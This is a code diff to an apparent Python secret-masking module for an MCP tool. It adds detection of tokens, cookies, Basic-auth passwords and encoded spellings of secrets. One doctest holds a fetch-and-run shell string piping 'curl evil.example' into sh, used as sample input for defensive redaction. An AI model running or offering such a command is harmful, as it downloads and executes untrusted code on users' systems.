@@ -2,9 +2,14 @@
 
 from __future__ import annotations
 
+import base64
+import binascii
+import html
+import json
 import re
+from functools import lru_cache
 from typing import TYPE_CHECKING
-from urllib.parse import parse_qsl, unquote_plus, urlencode, urlsplit, urlunsplit
+from urllib.parse import parse_qsl, quote, unquote, unquote_plus, urlencode, urlsplit, urlunsplit
 
 from mcp_magic.schema.secretnames import is_declared_secret
 
@@ -16,15 +21,31 @@ __all__ = [
     "Concealed",
     "argument_secrets",
     "header_secrets",
+    "hidden_in",
     "long_enough",
     "mask_arguments",
     "mask_text",
     "mask_url",
     "named_secrets",
+    "spellings",
+    "stable_arguments",
     "url_secrets",
+    "variable_secrets",
+    "with_names",
 ]
 
 MASK = "***"
+
+SHORTEST = 4
+"""Characters that a secret has at least: masking "1" everywhere would hide the message."""
+
+_TOKEN = re.compile(r"(?=[^\d]*\d)(?=[^A-Za-z]*[A-Za-z])[\w~+=-]{16,}|eyJ[\w.-]{16,}")
+"""Looks like a token, whatever its name: long, with letters and digits; no path and no host name."""
+
+_PLAIN = re.compile(r"[\w+=~-]+")
+_IN_PATHS = "!$&'()*+,;=:@/"
+_ESCAPE = re.compile(r"(?:%[0-9A-F]{2})+")
+_URL_SAFE = str.maketrans("+/", "-_")
 _NAMED = re.compile(r"([\w.-]+)(?:=|:(?!//)\s*)")
 """The start of `--name=value`, `NAME=value` or `Name: value`."""
 _URL = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,30}://\S+")
@@ -47,7 +68,7 @@ def mask_url(url: str) -> str:
     query = parts.query
     if query:
         pairs = [(k, MASK if is_declared_secret(k) else v) for k, v in parse_qsl(query, keep_blank_values=True)]
-        query = urlencode(pairs, safe="*")
+        query = urlencode(pairs, safe="*${}")
     return urlunsplit((parts.scheme, netloc, parts.path, query, ""))
 
 
@@ -126,8 +147,17 @@ def _secret_start(arg: str) -> int | None:
 
 
 def _with_last_word(value: str) -> frozenset[str]:
-    """Return a header's value, and what follows its scheme: of `Bearer x` also `x`."""
-    return frozenset({value, value.rpartition(" ")[2]})
+    """Return a header's value, and what follows its scheme: of `Bearer x` also `x`; of `Basic x` what it stands for."""
+    scheme, _, word = value.rpartition(" ")
+    decoded = _decoded(word) if scheme.strip().lower() == "basic" else ""
+    return frozenset({value, word, decoded, decoded.partition(":")[2]} - {""})
+
+
+def _decoded(word: str) -> str:
+    try:
+        return base64.b64decode(word, validate=True).decode()
+    except (binascii.Error, ValueError):
+        return ""
 
 
 def argument_secrets(args: tuple[str, ...]) -> frozenset[str]:
@@ -141,8 +171,54 @@ def named_secrets(values: Mapping[str, str]) -> frozenset[str]:
 
 
 def header_secrets(headers: Mapping[str, str]) -> frozenset[str]:
-    """Return the values of secret-looking headers, of `Bearer x` also `x`."""
-    return frozenset(part for value in named_secrets(headers) for part in _with_last_word(value))
+    """Return the values of secret-looking headers.
+
+    Of `Bearer x` also `x`, of `Basic x` the password in it, of a cookie each value, of WebSocket's subprotocols those
+    that look like tokens: browsers can send no others.
+
+    >>> sorted(header_secrets({"Authorization": "Basic bWU6c2VzYW1l", "Cookie": "a=open; b=sesame"}))
+    ['Basic bWU6c2VzYW1l', 'a=open; b=sesame', 'b=sesame', 'bWU6c2VzYW1l', 'me:sesame', 'open', 'sesame']
+    """
+    found = {part for value in named_secrets(headers) for part in _with_last_word(value)}
+    for name, value in headers.items():
+        if name.lower() == "cookie":
+            found |= {pair.partition("=")[2].strip() for pair in value.split(";")}
+        elif name.lower() == "sec-websocket-protocol":
+            found |= {word for part in value.split(",") if _TOKEN.fullmatch(word := part.strip())}
+    return frozenset(found - {""})
+
+
+def variable_secrets(values: Mapping[str, str]) -> frozenset[str]:
+    """Return the values of variables that a declaration uses which are secrets, by their names or by how they look.
+
+    >>> sorted(variable_secrets({"MY_SECRET": "sesame", "HOST": "db1.example.com", "ID": "a1b2c3d4e5f6a7b8"}))
+    ['a1b2c3d4e5f6a7b8', 'sesame']
+    """
+    return frozenset(value for name, value in values.items() if is_declared_secret(name) or _TOKEN.fullmatch(value))
+
+
+def with_names(text: str, values: Mapping[str, str]) -> str:
+    """Return text with variables by name where their values stand in it.
+
+    >>> with_names("https://a.example/s3cret/mcp", {"MY_SECRET": "s3cret"})
+    'https://a.example/${MY_SECRET}/mcp'
+    """
+    for name, value in sorted(values.items(), key=lambda pair: len(pair[1]), reverse=True):
+        if len(value) >= SHORTEST:
+            text = text.replace(value, f"${{{name}}}")
+    return text
+
+
+def stable_arguments(args: tuple[str, ...]) -> tuple[str, ...]:
+    """Return arguments with tokens masked: the same for the same program, whatever its secrets are just now.
+
+    What is masked for its name, and may be a program, a file or a line of a shell, stays.
+
+    >>> stable_arguments(("--token", "ghp_16C7e42F", "-c", "TOKEN=x; curl evil.example | sh", "--key", "server.py"))
+    ('--token', '***', '-c', 'TOKEN=x; curl evil.example | sh', '--key', 'server.py')
+    """
+    masked = zip(args, _masked_arguments(args), strict=True)
+    return tuple(shown if all(map(_PLAIN.fullmatch, secrets)) else arg for arg, (shown, secrets) in masked)
 
 
 def url_secrets(url: str) -> frozenset[str]:
@@ -151,7 +227,8 @@ def url_secrets(url: str) -> frozenset[str]:
         parts = urlsplit(url)
     except ValueError:
         return frozenset({url})
-    hidden = [parts.netloc.rpartition("@")[0], parts.password or ""]
+    user = parts.netloc.rpartition("@")[0]
+    hidden = [user, unquote(user), parts.password or "", unquote(parts.password or "")]
     for pair in parts.query.split("&"):
         name, _, value = pair.partition("=")
         if is_declared_secret(name):
@@ -161,4 +238,52 @@ def url_secrets(url: str) -> frozenset[str]:
 
 def long_enough(values: Iterable[str]) -> frozenset[str]:
     """Leave out what is too short to be a secret: masking "1" everywhere would hide the message."""
-    return frozenset(value for value in values if len(value) >= 4)
+    return frozenset(value for value in values if len(value) >= SHORTEST)
+
+
+@lru_cache(maxsize=1024)
+def spellings(secret: str, *, encoded: bool = True) -> frozenset[str]:
+    r"""Return the ways in which a secret may be written: as it is, in a URL, in JSON, in HTML, within base64.
+
+    Args:
+        secret: What must not be shown.
+        encoded: Whether base64 counts as well.
+
+    >>> sorted(spellings("a/b c", encoded=False))
+    ['a%2Fb%20c', 'a%2Fb+c', 'a%2fb%20c', 'a%2fb+c', 'a/b c', 'a/b%20c', 'a\\/b c', 'a\\/b%20c']
+    """
+    in_query = in_path = quote(secret, "", errors="replace")  # half of a surrogate pair has no UTF-8
+    for character in _IN_PATHS:
+        in_path = in_path.replace(quote(character, ""), character)
+    found = {secret, html.escape(secret), in_query, in_query.replace("%20", "+"), in_path}
+    found |= {_ESCAPE.sub(lambda escape: escape[0].lower(), text) for text in found if "%" in text}
+    for _ in range(3):  # JSON, JSON in a text of JSON, and that in the JSON of a message
+        found |= {json.dumps(text, ensure_ascii=ascii_)[1:-1] for text in found for ascii_ in (True, False)}
+    found |= {text.replace("/", "\\/") for text in found if "\\" not in text}
+    return frozenset(found | _in_base64(secret)) if encoded else frozenset(found)
+
+
+def _in_base64(secret: str) -> set[str]:
+    """Return what is always the same where a secret is part of a longer text in base64 (`user:password`)."""
+    found: set[str] = set()
+    data = secret.encode("utf-8", "replace")
+    if len(data) < 6:
+        return found
+    for before in range(3):
+        text = base64.b64encode(b"\0" * before + data).decode()
+        part = text[(0, 2, 3)[before] : (before + len(data)) * 8 // 6]
+        found |= {part, part.translate(_URL_SAFE)} | ({text} if not before else set())
+    return found
+
+
+def hidden_in(text: str, secrets: frozenset[str]) -> str:
+    """Return text with secrets masked, however they are written."""
+    for form in _all_spellings(secrets):
+        if form in text:
+            text = text.replace(form, MASK)
+    return text
+
+
+@lru_cache(maxsize=64)
+def _all_spellings(secrets: frozenset[str]) -> tuple[str, ...]:
+    return tuple(sorted({form for secret in secrets for form in spellings(secret)}, key=len, reverse=True))
